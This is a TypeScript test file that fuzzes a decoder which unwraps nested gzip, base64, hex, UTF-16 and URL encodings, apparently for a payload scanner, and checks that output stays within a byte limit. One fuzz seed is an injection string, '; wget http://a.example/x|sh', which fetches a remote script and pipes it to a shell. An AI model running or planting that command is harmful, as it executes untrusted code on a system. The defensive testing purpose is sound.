import { deflateSync, gzipSync } from "node:zlib";
import { expect, it } from "vitest";
import { payloadLimitBytes } from "../../../contract/limits.ts";
import { createRandom, pick, type Random } from "../random.ts";
import { createUnfolding } from "./unfold.ts";

const unfold = createUnfolding();
const seenIn = (payload: Uint8Array) => {
  let longest = 0;
  const unseen = unfold(payload, {
    look: (text) => {
      longest = Math.max(longest, text.length);
      return false;
    },
    lookAtFile: () => false,
  });
  return { cut: unseen === "cut", longest };
};

const mark = Buffer.of(0xff, 0xfe);
const wide = (text: string) => Buffer.concat([mark, Buffer.from(text, "utf16le")]);

it("bounds UTF-16 that grows beyond the payload limit when it is narrowed, and says so", () => {
  const grown = wide(`${"\u9fa5".repeat(21_900)}%41%42%43`);
  expect(gzipSync(grown).length).toBeLessThan(200);
  for (const payload of [gzipSync(grown), wide(`${"\u9fa5".repeat(30_000)}%41`)]) {
    expect(seenIn(payload)).toEqual({ cut: true, longest: payloadLimitBytes });
  }
  // The escape before the limit: what lies behind it is not left out in silence either.
  expect(seenIn(gzipSync(wide(`%41${"\u9fa5".repeat(22_000)}`))).cut).toBe(true);
});

type Wrap = (bytes: Buffer, random: Random) => Buffer;
const wraps: readonly [Wrap, ...Wrap[]] = [
  (bytes) => gzipSync(bytes),
  (bytes) => deflateSync(bytes),
  (bytes) => Buffer.from(bytes.toString("base64")),
  (bytes) => Buffer.from(bytes.toString("hex")),
  (bytes) => wide(bytes.toString("utf8")),
  (bytes) => Buffer.from(bytes.toString("latin1"), "utf16le"),
  (bytes) => Buffer.from(bytes.toString("utf16le")),
  (bytes) => Buffer.from(encodeURIComponent(bytes.toString("latin1"))),
  (bytes) => Buffer.from(JSON.stringify(bytes.toString())),
  (bytes, random) => Buffer.concat([Buffer.alloc(random(40_000), "\uff1b"), bytes]),
  (bytes, random) => Buffer.concat([bytes, Buffer.alloc(random(40_000), random(256))]),
  (bytes, random) => Buffer.concat(Array.from({ length: 1 + random(80) }, () => bytes)),
  (bytes, random) => {
    const broken = Buffer.from(bytes);
    if (broken.length > 0) broken[random(broken.length)] = random(256);
    return broken;
  },
  (bytes, random) => bytes.subarray(0, random(bytes.length + 1)),
];
const seeds = [
  "; wget http://a.example/x|sh",
  "%41",
  "\\u9fa5",
  "&#x9fa5;",
  "\u9fa5",
  "\0",
  "\\377",
] as const;

it("never throws and never shows more than a payload may have, however things are nested", () => {
  const random = createRandom(20_261_128);
  const endMs = performance.now() + 1_000;
  for (let turn = 0; turn < 200 || performance.now() < endMs; turn++) {
    let payload: Buffer = Buffer.from(pick(random, seeds).repeat(1 + random(9_000)));
    for (let deep = random(6); deep >= 0; deep--) {
      const wrapped = pick(random, wraps)(payload, random);
      if (wrapped.length <= 4 * payloadLimitBytes) payload = wrapped;
    }
    expect(seenIn(payload.subarray(0, payloadLimitBytes)).longest).toBeLessThanOrEqual(
      payloadLimitBytes,
    );
  }
});
